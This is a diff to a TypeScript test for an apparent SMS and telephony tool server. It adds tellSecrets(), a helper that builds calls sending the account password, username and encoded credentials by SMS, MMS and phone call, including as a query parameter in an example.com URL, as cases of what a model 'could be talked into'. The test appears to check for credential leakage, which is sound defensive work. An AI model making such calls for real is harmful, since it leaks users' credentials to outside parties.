@@ -218,6 +218,7 @@ async function callEverything(call: Call): Promise<string[]> {
     ['get_delivery_statistics', {}],
     ['get_delivery_statistics', { since: '2026-11-01T00:00:00Z' }],
     ['get_costs', {}],
+    ...tellSecrets(),
   ];
   const seen = calls.map(async ([name, args]) => {
     const { text, data } = await call(name, args);
@@ -226,6 +227,23 @@ async function callEverything(call: Call): Promise<string[]> {
     return [text, JSON.stringify(data), status.text, JSON.stringify(status.data ?? {})];
   });
   return (await Promise.all(seen)).flat();
+}
+
+/** What a model could be talked into: the credentials in whatever has a text or an address, in several forms. */
+function tellSecrets(): [string, Record<string, unknown>][] {
+  const place = `https://example.com/hello.mp3?p=${encodeURIComponent(password)}`;
+  return [
+    ...[password, `Koden är ${password}.`, base64(pair), username].flatMap(
+      (message): [string, Record<string, unknown>][] => [
+        ['send_sms', { to: ANNA, message, idempotency_key: message }],
+        ['send_sms', { to: ANNA, message, dry_run: true }],
+        ['send_mms', { to: ANNA, message, image_url: 'https://example.com/map.png' }],
+        ['make_call', { to: ANNA, plan: [{ do: 'hangup' }], sms_after: message }],
+      ],
+    ),
+    ['send_mms', { to: ANNA, image_url: place }],
+    ['make_call', { to: ANNA, plan: [{ do: 'play', sound: place }] }],
+  ];
 }
 
 const EVERY_TOOL = { ELKS_TOOLSETS: TOOLSETS.join(',') };
